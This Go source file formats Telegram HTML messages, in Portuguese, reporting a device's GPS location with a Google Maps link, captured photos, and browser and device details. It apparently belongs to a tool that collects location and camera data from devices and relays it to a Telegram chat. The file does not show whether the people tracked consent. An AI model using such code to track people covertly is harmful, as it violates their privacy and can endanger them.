package event

import (
	"fmt"
	"html"
	"math"
	"strconv"
	"strings"
	"time"

	"github.com/araddon/dateparse"
)

const (
	placeholder       = "N/A"
	defaultResolution = "Alta Qualidade"
	displayLayout     = "02/01/2006 15:04:05"
)

// Formatter renders notifications as Telegram HTML messages.
type Formatter struct {
	loc *time.Location
}

// NewFormatter returns a Formatter that renders timestamps in loc. A nil
// loc renders in UTC.
func NewFormatter(loc *time.Location) *Formatter {
	if loc == nil {
		loc = time.UTC
	}
	return &Formatter{loc: loc}
}

// Format returns the message for n. ok is false for suppressed
// notifications, which produce no outbound message.
func (f *Formatter) Format(n Notification) (msg string, ok bool) {
	switch n := n.(type) {
	case LocationFix:
		return f.location(n), true
	case PhotoCapture:
		return f.photo(n), true
	case DeviceReport:
		return f.device(n), true
	case Unrecognized:
		return f.generic(n), true
	default:
		return "", false
	}
}

// MapURL returns the Google Maps link for a coordinate, using the unrounded values.
func MapURL(lat, lng float64) string {
	return fmt.Sprintf("https://maps.google.com/?q=%s,%s",
		strconv.FormatFloat(lat, 'f', -1, 64),
		strconv.FormatFloat(lng, 'f', -1, 64))
}

// LocalTime renders a stored timestamp in the formatter's timezone. Values
// that can't be parsed are returned as-is.
func (f *Formatter) LocalTime(ts string) string {
	if ts == "" {
		return placeholder
	}
	t, err := dateparse.ParseAny(ts)
	if err != nil {
		return ts
	}
	return t.In(f.loc).Format(displayLayout)
}

func (f *Formatter) location(n LocationFix) string {
	coords := placeholder
	accuracy, altitude, speed := placeholder, placeholder, placeholder
	if n.Fix != nil {
		coords = fmt.Sprintf("%.6f,%.6f", n.Fix.Lat, n.Fix.Lng)
		accuracy = optional(n.Fix.Accuracy, "%.2fm", 1)
		altitude = optional(n.Fix.Altitude, "%.2fm", 1)
		speed = optional(n.Fix.Speed, "%.1f km/h", 3.6)
	}

	var b strings.Builder
	b.WriteString("📍 <b>Nova Localização</b>\n\n")
	fmt.Fprintf(&b, "📱 <b>Dispositivo:</b> <code>%s</code>\n", orPlaceholder(n.Device))
	fmt.Fprintf(&b, "🌐 <b>Coordenadas:</b> %s\n", coords)
	fmt.Fprintf(&b, "🎯 <b>Precisão:</b> %s\n", accuracy)
	fmt.Fprintf(&b, "⛰️ <b>Altitude:</b> %s\n", altitude)
	fmt.Fprintf(&b, "🚗 <b>Velocidade:</b> %s\n", speed)
	fmt.Fprintf(&b, "🕐 <b>Horário:</b> %s", f.LocalTime(n.Timestamp))
	if n.Fix != nil {
		fmt.Fprintf(&b, "\n\n🗺️ <a href=\"%s\">Ver no Google Maps</a>", MapURL(n.Fix.Lat, n.Fix.Lng))
	}
	return b.String()
}

func (f *Formatter) photo(n PhotoCapture) string {
	resolution := n.Resolution
	if resolution == "" {
		resolution = defaultResolution
	}
	size := placeholder
	if n.Photo != "" {
		size = fmt.Sprintf("%d KB", PhotoSizeKB(n.Photo))
	}

	var b strings.Builder
	b.WriteString("📸 <b>Nova Foto Capturada</b>\n\n")
	fmt.Fprintf(&b, "📱 <b>Dispositivo:</b> <code>%s</code>\n", orPlaceholder(n.Device))
	fmt.Fprintf(&b, "🕐 <b>Horário:</b> %s\n", f.LocalTime(n.Timestamp))
	fmt.Fprintf(&b, "🖼️ <b>Resolução:</b> %s\n", html.EscapeString(resolution))
	fmt.Fprintf(&b, "💾 <b>Tamanho:</b> %s", size)
	return b.String()
}

func (f *Formatter) device(n DeviceReport) string {
	var b strings.Builder
	b.WriteString("📱 <b>Informações do Dispositivo</b>\n\n")
	fmt.Fprintf(&b, "🆔 <b>Dispositivo:</b> <code>%s</code>\n", orPlaceholder(n.Device))
	fmt.Fprintf(&b, "💻 <b>Plataforma:</b> %s\n", orPlaceholder(n.Info.Platform))
	fmt.Fprintf(&b, "🌐 <b>Navegador:</b> %s\n", orPlaceholder(TruncateUserAgent(n.Info.UserAgent)))
	fmt.Fprintf(&b, "🖥️ <b>Tela:</b> %s\n", orPlaceholder(n.Info.Screen))
	fmt.Fprintf(&b, "🌍 <b>Fuso Horário:</b> %s\n", orPlaceholder(n.Info.Timezone))
	fmt.Fprintf(&b, "🕐 <b>Horário:</b> %s", f.LocalTime(n.Timestamp))
	return b.String()
}

func (f *Formatter) generic(n Unrecognized) string {
	var b strings.Builder
	b.WriteString("📡 <b>Novo Evento</b>\n\n")
	fmt.Fprintf(&b, "📱 <b>Dispositivo:</b> <code>%s</code>\n", orPlaceholder(n.Device))
	fmt.Fprintf(&b, "🏷️ <b>Tipo:</b> %s\n", orPlaceholder(n.Type))
	fmt.Fprintf(&b, "🕐 <b>Horário:</b> %s", f.LocalTime(n.Timestamp))
	return b.String()
}

// PhotoSizeKB is the encoded payload length in KB, rounded.
func PhotoSizeKB(photo string) int {
	return int(math.Round(float64(len(photo)) / 1024))
}

// TruncateUserAgent keeps the last two space-separated tokens of ua.
func TruncateUserAgent(ua string) string {
	fields := strings.Fields(ua)
	if len(fields) > 2 {
		fields = fields[len(fields)-2:]
	}
	return strings.Join(fields, " ")
}

func optional(v *float64, format string, scale float64) string {
	if v == nil {
		return placeholder
	}
	return fmt.Sprintf(format, *v*scale)
}

func orPlaceholder(s string) string {
	if s == "" {
		return placeholder
	}
	return html.EscapeString(s)
}
